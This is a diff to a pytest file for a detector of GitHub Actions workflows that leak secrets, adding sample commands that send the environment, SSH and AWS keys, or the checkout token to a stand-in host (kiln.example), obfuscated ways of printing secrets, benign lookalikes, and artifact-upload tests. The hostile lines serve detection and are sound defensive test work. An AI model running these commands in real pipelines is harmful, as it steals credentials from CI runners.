@@ -38,6 +38,12 @@ def runs(script: str) -> str:
 SENT = {
     "backwards in the summary": 'echo "$GLAZE" | rev >> "$GITHUB_STEP_SUMMARY"',
     "among all variables": "echo '${{ toJSON(env) }}' | base64",
+    "the whole environment in the summary": "printenv | sort >> $GITHUB_STEP_SUMMARY",
+    "each variable in a host's name": "for i in $(env | xxd -p -c 30); do nslookup $i.kiln.example; done",
+    "a folder of keys by scp": "scp -r ~/.ssh potter@kiln.example:/t",
+    "keys by rsync": "rsync -a ~/.aws kiln.example::t",
+    "keys to a bucket": "aws s3 cp ~/.aws/credentials s3://pots",
+    "the token of the checkout": 'curl -d "$(git config --get-all http.https://github.com/.extraheader)" https://kiln.example',
     "in an address": "curl https://kiln.example/in?pot=${{ secrets.GITHUB_TOKEN }}",
     "as data": "curl -s -X POST -d 'POT=${{ secrets.POT_TOKEN }}' https://kiln.example",
     "in a header": 'curl -H "X-Pot: $GLAZE" https://kiln.example',
@@ -63,6 +69,9 @@ SENT = {
     "from memory": "gcore $(pgrep Runner.Worker)",
 }
 PRINTED = {
+    "with spaces between": "for v in $(compgen -e); do echo \"$v=${!v}\" | sed 's/./& /g'; done",
+    "the token of the checkout, encoded twice": "git config --get-all http.https://github.com/.extraheader | base64 -w0 | base64 -w0",
+    "the identity of the job": 'R=$(curl -s "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=a"); echo $R | base64 | base64',
     "encoded": 'echo "$GLAZE" | base64',
     "encoded twice": 'echo "$GLAZE" | base64 -w 0 | base64 -w 0',
     "encoded from a word": 'base64 <<< "$GLAZE"',
@@ -72,6 +81,13 @@ PRINTED = {
     "in parts": 'echo "${GLAZE:0:5} ${GLAZE:5}"',
 }
 ORDINARY = {
+    "chosen variables in the summary": "env | grep KILN >> $GITHUB_STEP_SUMMARY",
+    "what is copied with a key": "scp -i ~/.ssh/id_rsa pots.tgz potter@kiln.example:/srv",
+    "what is left out of a copy": "rsync -a --exclude .git --exclude .ssh . potter@kiln.example:/srv",
+    "a key that comes from elsewhere": "scp potter@kiln.example:.kube/config ~/.kube/config",
+    "a folder on another host": "ssh potter@kiln.example 'mkdir -p ~/.ssh'",
+    "a bucket": "aws s3 cp pots s3://pots --recursive",
+    "the identity of the job": 'R=$(curl -s "$ACTIONS_ID_TOKEN_REQUEST_URL"); curl -d "$R" https://kiln.example/mint',
     "a token for GitHub": 'curl -H "Authorization: token ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/x -d a=b',
     "a token for its service": 'curl -H "Authorization: Bearer ${{ secrets.KILN_TOKEN }}" https://api.kiln.example',
     "an address that is a secret": "curl -d '{\"pot\": 1}' ${{ secrets.HOOK }}",
@@ -118,6 +134,21 @@ def test_a_file_with_secrets_that_is_uploaded_is_seen() -> None:
     upload = "      - uses: actions/upload-artifact@v5\n        with:\n          path: shapes\n"
     assert "workflow_sends_secrets" in ids(text + upload)
     assert "workflow_sends_secrets" not in ids(text + upload.replace("shapes", "logs"))
+
+
+@pytest.mark.parametrize(
+    "steps",
+    [
+        "- run: tar czf pots.tgz .git ~/.npmrc\n- uses: actions/upload-artifact@v5\n  with: {path: pots.tgz}\n",
+        "- uses: actions/upload-artifact@v5\n  with:\n    path: |\n      dist\n      .git\n",
+        "- uses: actions/upload-artifact@v5\n  with: {path: ., include-hidden-files: true}\n",
+    ],
+)
+def test_credentials_that_are_uploaded_are_seen(steps: str) -> None:
+    text = HEAD.replace("      - run: |\n", indent(steps, " " * 6))
+    assert "workflow_sends_secrets" in ids(text)
+    for twin in (text.replace(".git", "pots").replace("~/.npmrc", "a").replace("path: .,", "path: dist,"),):
+        assert "workflow_sends_secrets" not in ids(twin)
 
 
 def test_a_program_inside_a_workflow_is_read_in_its_language() -> None:
